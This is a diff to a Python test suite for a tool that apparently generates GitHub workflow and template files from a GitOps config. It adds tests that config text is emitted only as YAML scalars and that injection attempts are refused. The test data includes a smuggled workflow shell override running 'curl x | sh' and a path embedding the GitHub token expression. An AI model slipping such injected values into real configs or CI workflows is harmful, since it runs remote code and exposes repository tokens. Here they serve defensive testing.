@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import shutil
 import subprocess
 import sys
@@ -217,3 +218,43 @@ def test_output_into_folders_not_made_yet_makes_them(tmp_path: Path) -> None:
     done = gw("generate", "workflow", "ecr", f"--repo={ROOT / 'fixtures/gitops-repo'}", ACTION, f"--output={target}")
     assert done.code == 0, done.err
     assert target.read_text().startswith("# ")
+
+
+def test_config_text_reaches_generated_files_only_as_yaml_scalars(kind_repo: Path, tmp_path: Path) -> None:
+    marker = "Queue: # {x} 'y' \"z\" [a] & * ! | > % @ `"
+    config = kind_repo / ".gitops-writer.yaml"
+    config.write_text(
+        config.read_text()
+        .replace("title: S3 Bucket", f"title: {json.dumps(marker)}")
+        .replace("tier: {type: string, enum: [standard, archive], description: Storage tier}",
+                 f"tier: {{type: string, enum: [standard, {json.dumps(marker)}], description: {json.dumps(marker)}}}")
+    )  # fmt: skip
+    for what, extra in (("workflow", ()), ("template", ("--repository=acme/infra-gitops",))):
+        text = generated(kind_repo, what, "bucket", *extra)
+        comments = [line for line in text.splitlines() if line.lstrip().startswith("#")]
+        assert comments and not any("Queue" in line for line in comments), what
+        assert marker in json.dumps(yaml.safe_load(text), ensure_ascii=False).replace('\\"', '"'), what
+    path = tmp_path / "workflow.yml"
+    path.write_text(generated(kind_repo, "workflow", "bucket"))
+    assert actionlint(path).returncode == 0 and zizmor(path) == []
+
+
+@pytest.mark.parametrize(
+    ("setting", "value"),
+    [
+        ("title", "Queue\ndefaults: {run: {shell: \"bash -c 'curl x | sh; exec bash -e {0}'\"}}\n#"),
+        ("workflow", ".github/workflows/a${{ github.token }}b.yml"),
+        ("template", "catalog/templates/a\n# b.yaml"),
+    ],
+)
+def test_config_text_that_could_inject_into_a_generated_file_is_refused(
+    kind_repo: Path, setting: str, value: str
+) -> None:
+    config = kind_repo / ".gitops-writer.yaml"
+    config.write_text(
+        re.sub(rf"(?m)^    {setting}: .*$", lambda _: f"    {setting}: {json.dumps(value)}", config.read_text())
+    )
+    for what, extra in (("workflow", ()), ("template", ("--repository=acme/infra-gitops",))):
+        done = gw("generate", what, "bucket", f"--repo={kind_repo}", *extra)
+        assert done.code == 2 and done.out == "" and f"bucket.{setting}: holds" in done.err
+        assert len(done.err.strip().splitlines()) == 1
